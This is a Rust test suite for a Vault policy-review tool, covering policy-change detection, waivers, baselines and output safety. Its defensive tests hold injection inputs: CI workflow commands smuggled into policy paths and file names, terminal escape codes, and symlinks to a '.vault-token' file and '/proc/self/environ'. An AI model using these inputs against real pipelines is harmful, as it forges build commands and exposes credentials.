            "on: push\njobs:\n  apply:\n    steps:\n      - run: |\n          for f in *.hcl; do\n            vault policy write \"$(basename \"$f\" .hcl)\" \"$f\"\n          done\n      - run: vault policy write web web.hcl\n",
        ),
        ("pr/.terraform/modules/m/main.tf", resource),
        ("pr/.terraform.lock.hcl", "provider \"x\" {\n  version = \"1\"\n}\n"),
        ("pr/.x.tf", resource),
        (".tflint.hcl", "plugin \"x\" {\n  source = \"github.com/x/y\"\n}\n"),
    ]);
    ground.check(0, &["check passed", ".github/workflows/apply.yml"]);
}

/// What a program would write, or what is sealed, nobody reads: new or changed it does not pass, and where the base has the very same
/// nothing is said.
#[test]
fn what_writes_policies_or_hides_them_does_not_pass_as_news() {
    let sealed = "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nspec:\n  encryptedData:\n    p: AgBy3i4OJSWK\n";
    for (name, text) in [
        (
            "apply.sh",
            "#!/bin/sh\nsed s/read/sudo/ web.hcl | vault policy write web -\n",
        ),
        ("Makefile", "apply:\n\tbao policy write admin web.hcl\n"),
        ("apply", "curl -X PUT -d @p.json $VAULT_ADDR/v1/sys/policies/acl/web\n"),
        ("steps.toml", "run = \"vault write sys/policy/web policy=@/tmp/x\"\n"),
        (
            "apply.py",
            "import hvac\nhvac.Client().sys.create_or_update_policy('web', made())\n",
        ),
        (
            "main.go",
            "// of Vault\nfunc f() { client.Sys().PutPolicy(\"web\", rules()) }\n",
        ),
        ("apply.ksh", "echo \u{fffd}\nvault policy write web -\n"),
        ("data.csv", "vault policy write web x\n"),
        (
            ".github/workflows/x.yml",
            "x:\n  - run: ./make | vault policy write web -\n",
        ),
        (
            "secret.yaml",
            "kind: Secret\ndata:\n  p: ENC[AES256_GCM,data:x,iv:y,tag:z,type:str]\n",
        ),
        ("sealed.yaml", sealed),
        ("vars.yaml", "p: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  6162\n"),
        ("web.hcl.age", "age-encryption.org/v1\n"),
        ("more/web.gpg", "x"),
        ("packed.yaml", "data:\n  p: H4sIAAAAAAAAA8sHAA==\n"),
        ("web.hcl.gz", "\u{1f}x"),
    ] {
        changes(&[], &[(name, text)], &["high[not-checked]", name]);
        let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ)]);
        ground.write(&[(&format!("base/{name}"), text), (&format!("pr/{name}"), text)]);
        let said = ground.check(
            0,
            &["check passed", "not read, and may write policies or hold some: pr/"],
        );
        assert!(!said.contains("high[") && !said.contains("and no policies"), "{said}");
        changes(
            &[(name, text)],
            &[(name, &format!("{text} \n"))],
            &["high[not-checked]", name],
        );
    }
    // What it runs is a part of it; that it goes is no harm; nor is one without a base to compare with.
    let runs = "./make.py | vault policy write web -\n";
    changes(
        &[("apply.sh", runs), ("make.py", "print(1)\n")],
        &[("apply.sh", runs), ("make.py", "print(2)\n")],
        &["high[not-checked]", "apply.sh"],
    );
    // So it is where it stands beside the folder, in a repository; a folder that it runs, too.
    for (runs, made) in [("../make.py", "make.py"), ("../make/", "make/x/main.py")] {
        let script = format!("{runs} | vault policy write web -\n");
        let made = format!("repo/{made}");
        let ground = Ground::new(&[
            ("repo/policies/web.hcl", READ),
            ("repo/policies/apply.sh", &script),
            (&made, "print(1)\n"),
        ]);
        let base = ground.repository();
        ground.since(&base, 0, &["check passed"]);
        ground.write(&[(&made, "print(2)\n")]);
        ground.commit("made otherwise");
        ground.since(&base, 1, &["high[not-checked]", "apply.sh"]);
    }
    // What is too large to be read is known again by all that is in it.
    let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ)]);
    let long = |side: &str, bytes: u64| {
        let file = fs::File::create(ground.at(&format!("{side}/log"))).unwrap();
        file.set_len(bytes).unwrap();
    };
    long("base", 33 << 20);
    long("pr", 33 << 20);
    ground.check(0, &["check passed"]);
    long("pr", (33 << 20) + 1);
    ground.check(1, &["high[not-checked]", "pr/log"]);
    // Nor does a job that writes what is checked stand beside an action of its own that may change it.
    let job = "x:\n  - uses: ./action\n  - run: vault policy write web web.hcl\n";
    changes(
        &[],
        &[(".ci/x.yml", job), ("action/action.yml", "run: x\n")],
        &["high[not-checked]", ".ci/x.yml"],
    );
    // A part that is the same hides nothing beside it.
    let remote = |word: &str| {
        format!("resources:\n  - https://example.com/x//p?ref=main\n---\nrun: {word} | vault policy write web -\n")
    };
    changes(
        &[("kustomization.yaml", &remote("one"))],
        &[("kustomization.yaml", &remote("two"))],
        &["high[not-checked]", "kustomization.yaml"],
    );
    let ground = Ground::new(&[("base/web.hcl", READ), ("base/apply.sh", runs), ("pr/web.hcl", READ)]);
    ground.check(0, &["check passed"]);
    // What is sealed elsewhere is other people's.
    let ground = Ground::new(&[
        ("base/policies/web.hcl", READ),
        ("pr/policies/web.hcl", READ),
        ("pr/apps/s.yaml", sealed),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn a_hidden_module_that_is_called_is_read_as_it_is_called() {
    let module = "variable \"who\" {}\nresource \"vault_policy\" \"e\" {\n  name   = var.who\n  policy = \"path \\\"a\\\" { capabilities = [\\\"read\\\"] }\"\n}\n";
    let call = "module \"m\" {\n  source = \"./.m\"\n  who    = \"web\"\n}\n";
    let mut files = Vec::new();
    for side in ["base", "pr"] {
        files.push((format!("{side}/.m/main.tf"), module));
        files.push((format!("{side}/main.tf"), call));
    }
    let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (&**name, *text)).collect();
    let text = Ground::new(&files).check(0, &["1 policy checked", "check passed"]);
    assert!(!text.contains("not-checked"), "{text}");
}

#[test]
fn json_that_is_no_single_value_hides_no_policy() {
    let inner = RESOURCE_JSON.strip_prefix('{').unwrap();
    for text in [
        format!("{{\"kind\": \"ConfigMap\"}}\n{RESOURCE_JSON}\n"),
        format!("{{}}\n{RESOURCE_JSON}"),
        format!("{{\"path\": {{\"secret/data/web/*\": {{\"capabilities\": [\"read\"]}}}}}}\n{RESOURCE_JSON}"),
        format!("\u{feff}{RESOURCE_JSON}"),
        format!("---\n{RESOURCE_JSON}"),
        format!("{{\n // x\n{inner}"),
        format!("{{\n // x\n{}", inner.replace("path", "\\u0070ath")),
        format!("{RESOURCE_JSON}\nx"),
        format!("{{\"x\": NaN, {inner}"),
        format!("{},\n}}", RESOURCE_JSON.strip_suffix('}').unwrap()),
        RESOURCE_JSON.replace("\"kind\"", "'kind'"),
    ] {
        let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ), ("pr/p.json", &text)]);
        let told = ground.check(1, &["pr/p.json", "check failed"]);
        assert!(
            told.contains("high[not-checked]") || told.contains("`evil` now allows"),
            "{text}: {told}"
        );
    }
    // What holds none passes, in as many pieces as it likes.
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
        (
            "pr/tsconfig.json",
            "{\n  // the paths\n  \"paths\": {\"a\": [\"b\"]},\n}\n",
        ),
        ("pr/events.json", "{\"path\": \"a\"}\n{\"path\": \"b\"}\n"),
    ]);
    ground.check(0, &["check passed", "tsconfig.json"]);
}

#[test]
fn other_files_pass_and_are_named() {
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
        ("pr/README.md", "# Policies\n\nOne a team.\n"),
        ("pr/package.json", "{\"name\": \"x\", \"scripts\": {\"path\": \"a\"}}"),
        (
            "pr/terragrunt.hcl",
            "include \"root\" {\n  path = find_in_parent_folders()\n}\n",
        ),
        (
            "pr/.terraform.lock.hcl",
            "provider \"vault\" {\n  version = \"4.0.0\"\n}\n",
        ),
        (
            "pr/agent.hcl",
            "auto_auth {\n  sink \"file\" {\n    config = {\n      path = \"/t\"\n    }\n  }\n}\n",
        ),
    ]);
    ground.check(
        0,
        &[
            "check passed",
            "not read, and no policies",
            "pr/README.md",
            "pr/package.json",
            "pr/agent.hcl",
        ],
    );
}

#[test]
fn a_policy_that_needs_evaluation_fails() {
    let literal = "resource \"vault_policy\" \"star\" {\n  name   = \"star\"\n  policy = <<EOT\npath \"secret/data/web/*\" {\n  capabilities = [\"read\"]\n}\nEOT\n}\n";
    let evaluated = "resource \"vault_policy\" \"star\" {\n  name   = \"star\"\n  policy = data.http.star.body\n}\n";
    let ground = Ground::new(&[
        ("base/main.tf", literal),
        ("pr/main.tf", evaluated),
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
    ]);
    ground.check(1, &["high[not-checked]", "check failed"]);
    ground.write(&[("base/main.tf", ""), ("pr/new.tf", evaluated)]);
    ground.check(1, &["high[not-checked]"]);
}

#[test]
fn a_renamed_policy_is_another_policy() {
    let ground = Ground::new(&[
        ("base/admin.hcl", STAR),
        ("base/default.hcl", READ),
        ("pr/default.hcl", STAR),
    ]);
    let text = ground.check(
        1,
        &[
            "new-access",
            "`default` now allows",
            "policy-gone",
            "`admin` of the base is gone",
        ],
    );
    assert!(text.contains("`default` says the same"), "{text}");
    let ground = Ground::new(&[("base/a.hcl", STAR), ("pr/b.hcl", STAR)]);
    ground.check(1, &["`b` now allows"]);
}

#[test]
fn a_name_is_the_one_that_the_server_makes_of_it() {
    for name in ["ADM\u{130}N", "admin ", "\u{212a}v"] {
        let ground = Ground::new(&[
            ("base/admin.hcl", READ),
            ("base/kv.hcl", READ),
            ("pr/admin.hcl", READ),
            ("pr/kv.hcl", READ),
            (&format!("pr/{name}.hcl"), STAR),
        ]);
        ground.check(1, &["two files are the policy of this name"]);
    }
}

#[test]
fn no_path_writes_a_line_of_its_own_or_an_instruction_to_the_build_server() {
    let hostile = "path \"secret/a\\nFORGED: both sides decide every request alike\\n::stop-commands::x/*\" { capabilities = [\"read\"] }\n\
        path \"b/##vso[task.setvariable variable=PATH]x/*\" { capabilities = [\"read\"] }\n";
    let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", &format!("{READ}{hostile}"))]);
    let tests = "[[test]]\npolicies = [\"web\"]\npath = \"secret/a\\nFORGED\\n::stop-commands::x/y\"\noperations = [\"update\"]\nexpect = \"allow\"\n";
    ground.write(&[("t.toml", tests)]);
    let runs: [&[&str]; 8] = [
        &["compare", "base", "pr"],
        &["lint", "pr"],
        &[
            "explain",
            "--policies",
            "pr",
            "read",
            "secret/a\nFORGED: both\n::stop-commands::x/y",
        ],
        &["test", "--policies", "pr", "t.toml"],
        &["check", "--policies", "pr", "--base-dir", "base"],
        &["check", "--policies", "pr", "--base-dir", "base", "--format", "github"],
        &[
            "check",
            "--policies",
            "pr",
            "--base-dir",
            "base",
            "--format",
            "markdown",
        ],
        &["check", "--policies", "pr", "--base-dir", "base", "--format", "junit"],
    ];
    for run in runs {
        let (_, text) = ground.run(".", run);
        let lines = || text.lines().map(str::trim_start);
        assert!(!lines().any(|line| line.starts_with("FORGED")), "{run:?}: {text}");
        assert!(!lines().any(|line| line.starts_with("::stop")), "{run:?}: {text}");
        assert!(!text.contains("##vso["), "{run:?}: {text}");
    }
}

#[test]
fn a_policy_that_is_gone_is_told() {
    let ground = Ground::new(&[("base/web.hcl", READ), ("base/guard.hcl", READ), ("pr/web.hcl", READ)]);
    ground.check(0, &["low[policy-gone]: policy `guard`"]);
}

#[test]
fn nothing_checked_is_no_pass() {
    let ground = Ground::new(&[("base/web.hcl", READ), ("pr/README.md", "nothing\n")]);
    ground.check(2, &["nothing was checked"]);
    ground.expect(".", &["check", "--policies", "pr"], 2, &["nothing was checked"]);
}

#[test]
fn two_files_of_one_name_are_our_fault_to_find() {
    let ground = Ground::new(&[("base/web.hcl", READ), ("pr/a/web.hcl", READ), ("pr/b/web.hcl", STAR)]);
    let arguments = [
        "check",
        "--policies",
        "pr",
        "--policy-names",
        "file",
        "--base-dir",
        "base",
    ];
    let text = ground.expect(
        ".",
        &arguments,
        1,
        &["policy-unreadable", "two files are the policy of this name"],
    );
    assert!(!text.contains("the server would refuse"), "{text}");
    let two = Ground::new(&[("pr/a/web.hcl", READ), ("pr/b/web.hcl", READ)]);
    two.expect(".", &["check", "--policies", "pr"], 0, &["2 policies checked"]);
}

#[test]
fn a_change_does_not_bring_its_own_judge() {
    let own = "[rules]\nnew-access = \"info\"\nnot-checked = \"off\"\ngate-changed = \"off\"\n\n[[waivers]]\nrule = \"new-access\"\nscope = \"web\"\n\
               reason = \"trust me\"\nowner = \"me\"\nexpires = \"2099-01-01\"\n";
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", STAR),
        ("pr/vault-advisor.toml", own),
    ]);
    let told = [
        "new-access",
        "high[gate-changed]",
        "`rules.new-access`",
        "high[waiver-new]",
        "`web`",
    ];
    ground.check(1, &told);
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    let base = ground.repository();
    ground.write(&[("repo/policies/web.hcl", STAR), ("repo/vault-advisor.toml", own)]);
    ground.commit("own settings");
    ground.since(&base, 1, &told);
    let named = [
        "check",
        "--policies",
        "policies",
        "--base",
        &base,
        "--config",
        "vault-advisor.toml",
    ];
    ground.expect("repo", &named, 1, &told);
    // Beside the stanza.
    let waived = format!("# vault-advisor: allow new-access until 2099-01-01 owner=me reason=trust\n{STAR}");
    let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", &waived)]);
    ground.check(1, &["high[new-access]", "high[waiver-new]"]);
}

#[test]
fn a_waiver_beside_a_stanza_does_not_cover_what_a_change_makes_of_it() {
    let waived = |rule: &str, text: &str| {
        format!("# vault-advisor: allow {rule} until 2099-01-01 owner=ops reason=reviewed\n{text}")
    };
    let wide = READ.replace("\"read\"", "\"read\", \"delete\", \"sudo\"");
    let base = waived("new-access", READ);
    let ground = Ground::new(&[("base/web.hcl", &base), ("pr/web.hcl", &waived("new-access", &wide))]);
    let told = ground.check(1, &["critical[new-access]", "high[new-access]"]);
    assert!(told.contains("is for what it said before"), "{told}");
    // Another rule: what the stanza had is waived as before, what it has now is not.
    let control = "path \"sys/*\" {\n  capabilities = [\"update\"]\n}\n";
    let more = control.replace("\"update\"", "\"update\", \"delete\"");
    let rule = "wildcard-on-control-paths";
    let base = waived(rule, control);
    let ground = Ground::new(&[("base/web.hcl", &base), ("pr/web.hcl", &base)]);
    ground.check(0, &["1 waived"]);
    ground.write(&[("pr/web.hcl", &waived(rule, &more))]);
    ground.check(1, &[rule, "new-access"]);
    let less = waived(rule, "path \"sys/*\" {\n  capabilities = [\"create\"]\n}\n");
    ground.write(&[
        ("base/web.hcl", &waived(rule, &more.replace("\"delete\"", "\"create\""))),
        ("pr/web.hcl", &less),
    ]);
    ground.check(0, &["1 waived"]);
}

#[test]
fn a_deny_that_goes_is_told_though_nobody_knows_who_holds_it() {
    let deny = |path: &str| format!("path \"{path}\" {{\n  capabilities = [\"deny\"]\n}}\n");
    let guard = deny("secret/data/web/prod/*");
    let ground = Ground::new(&[("base/guard.hcl", &guard), ("base/web.hcl", READ), ("pr/web.hcl", READ)]);
    let words = [
        "high[new-access]",
        "policy `guard` no longer withholds",
        "secret/data/web/prod/",
    ];
    ground.check(1, &words);
    for text in [deny("secret/data/other"), String::from("# nothing\n")] {
        ground.write(&[("pr/guard.hcl", &text)]);
        ground.check(1, &words);
    }
    // What denies as much, or more, lets nobody in; and what only grants less has always done so.
    ground.write(&[("pr/guard.hcl", &deny("secret/data/web/*"))]);
    ground.check(0, &["check passed"]);
    ground.write(&[
        ("base/guard.hcl", READ),
        ("pr/guard.hcl", &READ.replace("web", "web/a")),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn a_stanza_that_is_said_twice_does_not_stand_in_the_place_of_another() {
    let deny = "path \"secret/data/web/prod\" {\n  capabilities = [\"deny\"]\n}\n";
    let (guarded, twice) = (format!("{READ}{deny}"), format!("{READ}{READ}"));
    let ground = Ground::new(&[("base/web.hcl", &guarded), ("pr/web.hcl", &twice)]);
    for server in ["vault@1.19.0", "openbao-2.6"] {
        let arguments = ["check", "--policies", "pr", "--base-dir", "base", "--server", server];
        ground.expect(".", &arguments, 1, &["new-access", "read secret/data/web/prod"]);
    }
}

#[test]
fn settings_alone_do_not_pass_either() {
    let ground = Ground::new(&[
        ("repo/policies/web.hcl", READ),
        ("repo/vault-advisor.toml", "[rules]\nnew-access = \"critical\"\n"),
    ]);
    let base = ground.repository();
    ground.since(&base, 0, &["check passed"]);
    fs::remove_file(ground.at("repo/vault-advisor.toml")).unwrap();
    ground.commit("no settings");
    ground.since(&base, 1, &["gate-changed", "`rules.new-access`"]);
}

#[test]
fn a_baseline_of_the_change_covers_nothing() {
    let ground = Ground::new(&[
        ("repo/policies/web.hcl", READ),
        ("repo/b.json", "{\"version\":1,\"findings\":[]}"),
    ]);
    let base = ground.repository();
    ground.write(&[("repo/policies/web.hcl", STAR)]);
    ground.expect(
        "repo",
        &[
            "check",
            "--policies",
            "policies",
            "--base",
            &base,
            "--write-baseline",
            "b.json",
        ],
        0,
        &[],
    );
    ground.commit("with a baseline");
    let arguments = [
        "check",
        "--policies",
        "policies",
        "--base",
        &base,
        "--baseline",
        "b.json",
    ];
    ground.expect("repo", &arguments, 1, &["new-access", "to the baseline `b.json`"]);
    fs::rename(ground.at("repo/b.json"), ground.at("repo/c.json")).unwrap();
    ground.commit("with a new baseline");
    let arguments = [
        "check",
        "--policies",
        "policies",
        "--base",
        &base,
        "--baseline",
        "c.json",
    ];
    ground.expect("repo", &arguments, 1, &["new-access", "to the baseline `c.json`"]);
    // One that git does not know is the user's own.
    fs::copy(ground.at("repo/c.json"), ground.at("mine.json")).unwrap();
    let arguments = [
        "check",
        "--policies",
        "policies",
        "--base",
        &base,
        "--baseline",
        "../mine.json",
    ];
    ground.expect("repo", &arguments, 0, &["in the baseline"]);
}

#[test]
fn a_deployment_of_the_change_does_not_say_who_holds_what() {
    let nobody = r#"[{"id": "e1", "name": "ann", "policies": []}]"#;
    let ann = r#"[{"id": "e1", "name": "ann", "policies": ["web"]}]"#;
    let ground = Ground::new(&[("repo/policies/web.hcl", STAR), ("repo/people/entities.json", ann)]);
    let base = ground.repository();
    ground.write(&[("repo/people/entities.json", nobody)]);
    ground.commit("nobody");
    let arguments = [
        "check",
        "--policies",
        "policies",
        "--base",
        &base,
        "--deployment",
        "people",
        "--max-risk",
        "1",
    ];
    ground.expect("repo", &arguments, 1, &["risk-over-budget"]);
}

#[test]
fn nothing_of_this_machine_shows() {
    let ground = Ground::new(&[
        ("base/web.hcl", READ),
        ("pr/web.hcl", READ),
        ("home/.vault-token", SECRET),
    ]);
    ground.link("../home/.vault-token", "pr/a.hcl");
    ground.link("../home/.vault-token", "pr/b.json");
    ground.link("../home/.vault-token", "pr/c.tf");
    ground.link("../home/.vault-token", "pr/d.policy");
    for format in ["text", "github", "sarif", "markdown", "gitlab", "junit"] {
        ground.expect(
            ".",
            &["check", "--policies", "pr", "--base-dir", "base", "--format", format],
            1,
            &["not-checked"],
        );
    }
    for (command, status) in [("lint", 0), ("compare", 0)] {
        let arguments: &[&str] = if command == "lint" {
            &["lint", "pr"]
        } else {
            &["compare", "base", "pr"]
        };
        ground.expect(".", arguments, status, &[]);
    }
    // Named one by one, as pre-commit does.
    for name in ["pr/a.hcl", "pr/b.json", "pr/d.policy", "/proc/self/environ"] {
        let (code, text) = ground.run(".", &["lint", name]);
        assert!(code > 0 && !text.contains(SECRET), "{name}: {code} {text}");
        let (code, text) = ground.run(".", &["check", "--policies", name]);
        assert!(code > 0 && !text.contains(SECRET), "{name}: {code} {text}");
    }
    ground.link("../home/.vault-token", "pr/vault-advisor.toml");
    ground.expect(".", &["check", "--policies", "pr"], 2, &["is a link"]);
}

#[test]
fn nothing_without_end_is_read() {
    for name in ["pr/x.hcl", "pr/x.tf", "pr/x.json"] {
        let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ)]);
        ground.link("/dev/zero", name);
        ground.check(1, &["not-checked"]);
    }
    let ground = Ground::new(&[("pr/web.hcl", READ)]);
    ground.link("/dev/zero", "pr/vault-advisor.toml");
    ground.expect(".", &["check", "--policies", "pr"], 2, &["is a link"]);
    ground.expect(".", &["lint", "/dev/zero"], 2, &["no regular file"]);
    let fifo = ground.at("pr/pipe.hcl");
    fs::remove_file(ground.at("pr/vault-advisor.toml")).unwrap();
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    ground.expect(".", &["check", "--policies", "pr"], 1, &["pipe.hcl", "no regular file"]);
}

#[test]
fn names_of_files_are_names_everywhere() {
    let ground = Ground::new(&[
        ("repo/policies/web.hcl", READ),
        ("repo/policies/--format=x.hcl", READ),
        ("repo/policies/a\n::error::b.hcl", READ),
    ]);
    let base = ground.repository();
    ground.since(&base, 0, &["3 policies checked"]);
    ground.write(&[
        ("repo/policies/a\n::error::b.hcl", STAR),
        ("repo/policies/--format=x.hcl", STAR),
    ]);
    ground.commit("PR");
    let arguments = ["check", "--policies", "policies", "--base", &base, "--format", "github"];
    let text = ground.expect("repo", &arguments, 1, &["new-access"]);
    let commands = text.lines().filter(|line| line.starts_with("::"));
    assert!(commands.clone().count() > 0);
    assert!(
        commands.into_iter().all(|line| !line.starts_with("::error::b")),
        "{text}"
    );
}

#[test]
fn what_is_written_does_not_land_where_a_change_chooses() {
    let ground = Ground::new(&[("pr/web.hcl", READ), ("home/precious", "mine"), ("home/more/x", "mine")]);
    ground.link("home/precious", "check.sarif");
    ground.link("home/more", "reports");
    let sarif = |file: &str| ["check", "--policies", "pr", "--format", "sarif", "-o", file].map(str::to_owned);
    for file in ["check.sarif", "reports/x", "./reports/y"] {
        let arguments = sarif(file);
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        ground.expect(".", &arguments, 2, &["is a link"]);
        ground.expect(
            ".",
            &["check", "--policies", "pr", "--write-baseline", file],
            2,
            &["is a link"],
        );
    }
    assert_eq!(fs::read_to_string(ground.at("home/precious")).unwrap(), "mine");
    assert_eq!(fs::read_to_string(ground.at("home/more/x")).unwrap(), "mine");
    ground.expect(
        ".",
        &["check", "--policies", "pr", "-o", "/dev/stdout"],
        0,
        &["check passed"],
    );
}

#[test]
fn a_mark_does_not_call_policies_as_it_likes() {
    let mark = "{\"layout\": 1}";
    let swapped = "{\"layout\": 1, \"long_names\": {\"web\": \"admin\", \"admin\": \"web\"}}";
    let ground = Ground::new(&[
        ("base/snapshot.json", mark),
        ("base/policies/web.hcl", READ),
        ("base/policies/admin.hcl", STAR),
        ("pr/snapshot.json", swapped),
        ("pr/policies/web.hcl", STAR),
        ("pr/policies/admin.hcl", READ),
    ]);
    ground.check(1, &["`web` now allows"]);
}

#[test]
fn nesting_ends_nothing() {
    let deep = 200_000;
    for (name, open) in [
        ("pr/web.hcl", "path \"a\" {\n  x = ["),
        ("pr/web.json", "{\"path\": {\"a\": "),
        ("people/entities.json", ""),
        ("people.json", "{\"mounts\": "),
        ("vault-advisor.toml", "a = "),
        ("b.json", ""),
    ] {
        let ground = Ground::new(&[
            ("base/web.hcl", READ),
            ("pr/web.hcl", READ),
            (name, &format!("{open}{}", "[".repeat(deep))),
        ]);
        let mut arguments = vec!["check", "--policies", "pr", "--base-dir", "base"];
        if name.starts_with("people") {
            arguments.extend(["--deployment", name.split('/').next().unwrap()]);
        }
        if name == "b.json" {
            arguments.extend(["--baseline", name]);
        }
        let (code, text) = ground.run(".", &arguments);
        assert!(code == 1 || code == 2, "{name}: {code} {text}");
    }
}

/// An entry of a log that hides nothing.
fn entry(id: u32, path: &str, auth: &str) -> String {
    let request = format!(
        r#"{{"id":"r{id}","operation":"update","path":"{path}","mount_type":"token","client_token_accessor":"CANARYaccessor","namespace":{{"id":"root"}}}}"#
    );
    let time = format!("2026-03-01T00:00:{id:02}Z");
    let one = |kind: &str| format!(r#"{{"time":"{time}","type":"{kind}","auth":{auth},"request":{request}}}"#);
    format!("{}\n{}\n", one("request"), one("response"))
}

#[test]
fn secrets_in_paths_and_names_reach_no_output() {
    let nameless = r#"{"accessor":"CANARYaccessor","policies":["web"],"policy_results":{"allowed":true}}"#;
    let named = r#"{"entity_id":"e1","display_name":"hvs.CANARYname1","metadata":{"username":"hvs.CANARYuser1"},"policies":["web"],"policy_results":{"allowed":true}}"#;
    // A token where an entity id, an accessor, a name of a policy, of a namespace or of a metadatum should be.
    let misplaced = r#"{"entity_id":"hvs.CANARYentity1","display_name":"token-s.CANARYdisplay12","accessor":"hvs.CANARYaccessor1","metadata":{"hvb.CANARYkey1":"hvs.CANARYvalue1","email":"a/hvs.CANARYmail1"},"policies":["web","hvs.CANARYpolicy1"],"external_namespace_policies":{"hvs.CANARYspace1":["hvs.CANARYpolicy2"]},"policy_results":{"allowed":true,"granting_policies":[{"name":"hvs.CANARYpolicy3","namespace_id":"x1","namespace_path":"hvs.CANARYspace2/","type":"acl"}]}}"#;
    let paths = [
        "auth/token/lookup/hvs.CANARYpath1",
        "auth/token/revoke/s.CANARYpath2",
        "auth/token/lookup-accessor/CANARYaccessor",
        "sys/leases/lookup/database/creds/x/CANARYlease",
        "auth/approle/role/ci/secret-id/CANARYsecret",
        "secret/data/hvs.CANARYpath3",
    ];
    let log: String = (0..)
        .zip(paths)
        .flat_map(|(n, path)| {
            let elsewhere = entry(n + 30, path, misplaced).replace(
                r#""namespace":{"id":"root"}"#,
                r#""namespace":{"id":"x2","path":"hvs.CANARYspace3/"},"data":{"hvs.CANARYdata1":"hmac-sha256:1"}"#,
            );
            let unnamed = misplaced.replace("hvs.CANARYentity1", "");
            [
                entry(n, path, nameless),
                entry(n + 20, path, named),
                elsewhere,
                entry(n + 40, path, &unnamed),
            ]
        })
        .collect();
    let ground = Ground::new(&[
        ("w.log", &log[..log.len() / 2]),
        ("all.log", &log),
        ("pr/web.hcl", STAR),
    ]);
    for file in ["u.jsonl", "u.csv", "u.parquet"] {
        ground.expect(".", &["usage", "--logs", "all.log", "-o", file], 0, &[]);
    }
    ground.expect(
        ".",
        &[
            "advise",
            "--logs",
            "all.log",
            "--policies",
            "pr",
            "--out",
            "out",
            "--time-limit",
            "1s",
        ],
        0,
        &[],
    );
    let watch = [
        "watch", "--logs", "w.log", "--state", "state", "--once", "--format", "json",
    ];
    let (_, mut told) = ground.run(".", &watch);
    ground.write(&[("w.log", &log)]);
    told.push_str(&ground.run(".", &watch).1);
    let mut found = Vec::new();
    let mut folders = vec![ground.at("out"), ground.at("state")];
    let mut files = ["u.jsonl", "u.csv", "u.parquet"].map(|file| ground.at(file)).to_vec();
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path)
            } else {
                files.push(path)
            }
        }
    }
    for file in files {
        if String::from_utf8_lossy(&fs::read(&file).unwrap()).contains("CANARY") {
            found.push(file);
        }
    }
    assert!(found.is_empty() && !told.contains("CANARY"), "{found:?} {told}");
    assert!(
        fs::read_to_string(ground.at("u.jsonl"))
            .unwrap()
            .contains("auth/token/lookup/(token)")
    );
}

#[test]
fn the_names_of_logs_do_nothing_to_a_terminal() {
    let ground = Ground::new(&[
        ("a\u{1b}[2J\n::error::b.log", "no entry\n"),
        ("x.log", &entry(1, "a", r#"{"entity_id":"e","policies":["p"]}"#)),
    ]);
    let text = ground.expect(".", &["usage", "--logs", "."], 0, &["skipped"]);
    assert!(!text.contains('\u{1b}') && !text.contains("\n::error"), "{text:?}");
}

#[test]
fn addresses_that_are_named_as_inputs_keep_their_signatures() {
    let ground = Ground::new(&[
        ("pr/web.hcl", READ),
        ("x.log", &entry(1, "a", r#"{"entity_id":"e","policies":["p"]}"#)),
    ]);
    let address = "https://me:CANARY@host/audit.log?x=CANARY&sig=CANARY%2F";
    let pattern = "https://host/*.log?sig=CANARY";
    for (code, arguments) in [
        (2, &["usage", "--logs", address][..]),
        (2, &["usage", "--logs", pattern]),
        (2, &["usage", "--usage", address]),
        (2, &["usage", address]),
        (2, &["usage", "--logs", "s3://bucket/audit.log?X-Amz-Signature=CANARY"]),
        (2, &["check", "--policies", address]),
        (2, &["check", "--policies", "pr", "--deployment", address]),
        (2, &["check", "--policies", "pr", "--config", address]),
        (2, &["explain", "--policies", address, "a"]),
        (2, &["advise", "--logs", "x.log", "--policies", address, "--out", "out"]),
        (
            0,
            &[
                "watch", "--logs", address, "--state", "state", "--once", "--format", "json",
            ],
        ),
    ] {
        let (got, told) = ground.run(".", arguments);
        assert!(!told.contains("CANARY"), "{arguments:?}: {told}");
        assert_eq!(got, code, "{arguments:?}: {told}");
    }
}

#[test]
fn a_deployment_that_says_nothing_is_none() {
    let ground = Ground::new(&[
        ("pr/web.hcl", READ),
        ("x.json", "{\"x\":1}"),
        ("d/deployment.json", "{\"x\":1}"),
        ("e/groups.json", "[{\"x\":1}]"),
    ]);
    for deployment in ["x.json", "d", "e"] {
        let arguments = ["check", "--policies", "pr", "--deployment", deployment];
        ground.expect(".", &arguments, 2, &["says nothing of a deployment"]);
    }
}

#[test]
fn what_policies_lead_to_beside_their_folder_is_read_before_the_change_too() {
    let module = |text: &str| {
        format!("resource \"vault_policy\" \"web\" {{\n  name   = \"web\"\n  policy = <<-EOT\n{text}  EOT\n}}\n")
    };
    let ground = Ground::new(&[
        (
            "repo/envs/prod/main.tf",
            "module \"p\" {\n  source = \"../../modules/p\"\n}\n",
        ),
        ("repo/modules/p/main.tf", &module(READ)),
    ]);
    ground.repository();
    let arguments = ["check", "--policies", "envs/prod", "--base", "main"];
    ground.expect("repo", &arguments, 0, &["1 policy checked, 0 findings"]);
    ground.write(&[("repo/modules/p/main.tf", &module(STAR))]);
    ground.commit("PR");
    ground.expect("repo", &arguments, 1, &["new-access", "modules/p/main.tf"]);
}

#[test]
fn terraform_of_a_change_shows_nothing_of_git_and_hides_no_policy() {
    let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
    ground.repository();
    ground.git("repo", &["config", "http.extraheader", SECRET]);
